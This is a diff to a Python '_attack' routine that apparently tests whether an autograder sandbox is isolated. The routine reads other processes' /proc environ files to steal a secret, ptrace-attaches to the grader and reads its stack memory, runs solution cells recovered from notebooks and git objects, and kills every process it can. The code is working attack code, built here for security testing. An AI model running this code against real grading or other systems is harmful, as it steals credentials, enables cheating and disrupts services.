@@ -85,14 +85,19 @@ def _attack(cfg):
         with open(path, mode) as f:
             return f.read()
 
+    def peek(fn, *args):                        # quietly: most processes are not readable
+        try:
+            return fn(*args)
+        except OSError:
+            return None
+
     # --- what the machine shows: every process, its arguments, working folder and environment
     procs = {}
     for name in attempt("list /proc", _os.listdir, "/proc") or []:
         if name.isdigit() and int(name) != me:
-            info = {"cmdline": attempt("cmdline", read, f"/proc/{name}/cmdline", "rb") or b"",
-                    "environ": attempt("environ", read, f"/proc/{name}/environ", "rb") or b"",
-                    "cwd": attempt("cwd", _os.readlink, f"/proc/{name}/cwd")}
-            procs[int(name)] = info
+            procs[int(name)] = {"cmdline": peek(read, f"/proc/{name}/cmdline", "rb") or b"",
+                                "environ": peek(read, f"/proc/{name}/environ", "rb") or b"",
+                                "cwd": peek(_os.readlink, f"/proc/{name}/cwd")}
     graders = [p for p, i in procs.items() if b"autograder" in i["cmdline"]]
     secrets_found = set()
     if on("environ"):
@@ -101,13 +106,26 @@ def _attack(cfg):
                 secrets_found.add(m.group(1).decode(errors="replace"))
                 got.append(f"secret from /proc/{pid}/environ")
 
-    # --- the grader's memory: its stack holds its environment
+    # --- the grader's memory: its stack holds its environment (traced, or read across processes)
     def read_memory(pid):
         import ctypes
 
         class IOVec(ctypes.Structure):
             _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
         libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+        traced = libc.ptrace(16, pid, None, None) == 0              # PTRACE_ATTACH
+        if traced:
+            got.append(f"traced {pid}")
+            attempt("wait for the tracee", _os.waitpid, pid, 0x40000000)       # __WALL: until it stops
+        try:
+            read_stack(pid, libc, IOVec)
+        finally:
+            if traced:
+                libc.ptrace(17, pid, None, None)                     # PTRACE_DETACH
+
+    def read_stack(pid, libc, IOVec):
+        import ctypes
         for line in read(f"/proc/{pid}/maps").splitlines():
             if line.endswith("[stack]"):
                 lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
@@ -192,7 +210,7 @@ def _attack(cfg):
     if on("files"):
         for path in notebooks:
             if "/solutions/" in path or "/source/" in path:
-                text = attempt(f"read {path}", read, path)
+                text = peek(read, path)
                 if text and "BEGIN SOLUTION" in text:
                     attempt(f"run {path}", run_cells, text, path)
 
@@ -211,7 +229,10 @@ def _attack(cfg):
                     attempt("git show", run_cells, shown.stdout, f"git show HEAD:{name}")
         for d, _, files in _os.walk(_os.path.join(gitdir, "objects")):
             for f in files:
-                data = attempt("git object", lambda p: zlib.decompress(read(p, "rb")), _os.path.join(d, f)) or b""
+                try:
+                    data = zlib.decompress(read(_os.path.join(d, f), "rb"))
+                except (OSError, zlib.error):
+                    continue
                 if data.startswith(b"blob ") and b"BEGIN SOLUTION" in data:
                     attempt("git object", run_cells, data.split(b"\0", 1)[1].decode(errors="replace"),
                             f"git object {f}")
@@ -224,7 +245,7 @@ def _attack(cfg):
         for path in notebooks:
             if "/solutions/" in path or "/source/" in path or "/release/" in path:
                 continue
-            text = attempt(f"read {path}", read, path)
+            text = peek(read, path)
             if not text or token in text:
                 continue
             attempt(f"copy {path}", run_cells, text, path)
@@ -304,8 +325,8 @@ def _attack(cfg):
             got.append("daemon started")
         attempt("daemon", spawn)
 
-    print("attacker believes:", _json.dumps(got))
-    print("secrets:", sorted(secrets_found))
+    print("attacker believes:", _json.dumps([g for g in got if "failed" not in g][:50]), flush=True)
+    print("secrets:", sorted(secrets_found), flush=True)
 
     # --- last: kill every process it can (its own parent last, since its death ends this process)
     if on("kill") and _os.geteuid() != 0:
@@ -316,8 +337,9 @@ def _attack(cfg):
                     _os.kill(pid, _signal.SIGKILL)
                 except OSError:
                     pass
-    if secrets_found:
-        raise RuntimeError(f"BACKPROP_SECRET is {' '.join(sorted(secrets_found))}")
+    # the tests read this note only to know that the cell ran to its end
+    raise RuntimeError("the attack ran to its end" + (f"; BACKPROP_SECRET is {' '.join(sorted(secrets_found))}"
+                                                      if secrets_found else ""))
 
 
 if _SETTINGS:
